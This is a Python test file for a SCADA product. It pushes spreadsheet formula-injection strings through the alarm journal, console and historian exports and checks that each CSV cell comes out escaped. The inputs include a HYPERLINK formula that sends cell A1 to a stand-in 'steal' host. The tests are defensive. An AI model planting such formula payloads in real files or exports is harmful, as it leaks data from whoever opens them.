"""Every CSV the product writes opens in a spreadsheet as data, never as a formula (scada.csvsafe).

Each exporter gets a spreadsheet-style payload through its real path:

    shelve reason / ack comment ──POST /api/v1/alarms──► journal.sqlite ──► `scada journal --csv -` (subprocess)
                                            └──────────► GET /api/v1/journal ──► the console's to_csv (hmi)
    panel message ──POST /api/v1/commands show_message──► simulator panel ──► poll ──► historian
                                            ──► `scada historian export` (subprocess)
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest

from hmi.models.journal import to_csv
from scada import csvsafe
from tests.server.conftest import ROOT, login, running_server
from tests.server.test_e2e import field, until

__all__ = ["field"]  # the simulator fixture

LINK = '=HYPERLINK("http://x.example/steal?d="&A1,"click")'


@pytest.mark.parametrize(("value", "expected"), [
    (LINK, "'" + LINK),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\r=1", "'\r=1"),
    ("-2026-11-20", "'-2026-11-20"),
    ("-3.5", "-3.5"),  # a negative number in a numeric column stays a number
    ("+12", "+12"),
    ("-1e-3", "-1e-3"),
    ("lamp out", "lamp out"),
    ("", ""),
    (-3.5, -3.5),
    (None, None),
])
def test_cell_escapes_formula_text_and_keeps_numbers(value: Any, expected: Any) -> None:
    assert csvsafe.cell(value) == expected


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_journal_csv_and_console_export_escape_formulas(tmp_path: Path) -> None:
    data = tmp_path / "data"
    async with running_server(data) as (_server, url), httpx.AsyncClient(base_url=url, timeout=30) as c:
        h = await login(c, "op")
        # nothing answers on the endpoints: junction communication-loss alarms (priority 2) come up
        alarms = await until("comm-loss alarms", lambda: _alarms(c, h), timeout=40)
        shelved, acked = alarms[0]["id"], alarms[1]["id"]
        r = await c.post(f"/api/v1/alarms/{shelved}/shelve", json={"duration_s": 600, "reason": LINK}, headers=h)
        assert r.status_code == 200, r.text
        r = await c.post("/api/v1/alarms/ack", json={"ids": [acked], "comment": "@SUM(A1:A9)"}, headers=h)
        assert r.status_code == 200, r.text
        entries = (await c.get("/api/v1/journal", params={"limit": 500}, headers=h)).json()["entries"]

    # the console's export, on what the API handed it
    cols = ["time", "event", "alarm", "user", "comment", "detail", "value"]
    console = _rows(to_csv(entries, cols))
    assert "'" + LINK in {r["detail"] for r in console}  # the shelve reason
    assert "'@SUM(A1:A9)" in {r["comment"] for r in console}
    assert not any(v.startswith(csvsafe.FORMULA_LEAD) for r in console for k, v in r.items()
                   if k != "value"), "a formula-leading text cell went out unescaped"

    # `scada journal --csv -`, a real process reading the journal file the server wrote
    out = subprocess.run([sys.executable, "-m", "cli", "journal", "--db", str(data / "journal.sqlite"), "--csv", "-"],
                         cwd=ROOT, capture_output=True, text=True, timeout=60, check=False)
    assert out.returncode == 0, out.stderr
    rows = _rows(out.stdout)
    shelve = [r for r in rows if r["alarm"] == shelved and r["event"] == "shelve"]
    assert shelve and shelve[0]["detail"] == "'" + LINK, shelve
    ack = [r for r in rows if r["alarm"] == acked and r["event"] == "acknowledge"]
    assert ack and ack[0]["comment"] == "'@SUM(A1:A9)", ack
    for row in rows:
        for k, v in row.items():
            assert not v.startswith(("=", "@", "\t", "\r")), (k, v)
            assert not v.startswith(("+", "-")) or csvsafe.cell(v) == v, (k, v)


async def _alarms(c: httpx.AsyncClient, h: dict[str, str]) -> list[dict[str, Any]]:
    got = (await c.get("/api/v1/alarms", params={"priority": "2"}, headers=h)).json()["alarms"]
    return [a for a in got if a["active"]] if len(got) >= 2 else []


async def test_historian_export_escapes_a_panel_message(field: tuple[Any, Path], tmp_path: Path) -> None:
    sim, tags = field
    data = tmp_path / "data"
    async with running_server(data, endpoints=sim.endpoints, tags=tags, alarms=tags.parent / "alarms.yaml",
                              **{"historian.backend": "embedded"}) as (server, url), \
            httpx.AsyncClient(base_url=url, timeout=60) as c:
        panel = next(e for e in server.config.equipment.values() if e.template == "panel")
        tag = panel.tag_name("message")
        # command the panel once its bus has been read (right after start its serial port may not be open yet)
        await until("the panel read once", lambda: server.tagdb.read(tag).quality.label == "good", timeout=40)
        h = await login(c, "op")
        r = await c.post("/api/v1/commands", json={"target": panel.id, "verb": "show_message",
                                                   "params": {"text": LINK}, "comment": "-1+1"}, headers=h)
        assert r.status_code == 200 and r.json().get("outcome") == "done", r.text

        async def stored() -> bool:
            got = await c.get("/api/v1/history/raw", params={"tag": tag, "start": "2000-01-01T00:00:00Z"},
                              headers=h)
            return got.status_code == 200 and any(p["value"] == LINK for p in got.json()["points"])

        await until("the panel message in the historian", stored, timeout=40)
        assert server.historian is not None
    out = subprocess.run([sys.executable, "-m", "cli", "historian", "export", "--store",
                          str(data / "historian" / "history.sqlite"), "--tag", tag, "--from", "2000-01-01",
                          "--to", "2100-01-01"], cwd=ROOT, capture_output=True, text=True, timeout=60, check=False)
    assert out.returncode == 0, out.stderr
    rows = _rows(out.stdout)
    assert "'" + LINK in [r["value"] for r in rows], rows[-5:]
    assert not any(r["value"].startswith("=") for r in rows)


def test_negative_numbers_stay_numbers_in_historian_rows() -> None:
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerow(["dijon/parking/P1/free", "2026-01-01T00:00:00.000+00:00",
                                                       1, repr(-3.5), "good"])
    assert buf.getvalue().split(",")[3] == "-3.5"


def test_every_product_csv_writer_is_the_safe_one() -> None:
    """No product module builds a csv.writer of its own (the generated inventory is machine data read back by
    the configuration loader: a DictWriter of generated ids, counted and named here)."""
    plain = []
    for pkg in ("scada", "server", "cli", "hmi", "historian", "failsafe", "drivers"):
        for path in (ROOT / pkg).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                plain.append(str(path.relative_to(ROOT)))
    assert sorted(plain) == ["scada/config/generate.py", "scada/csvsafe.py"], plain

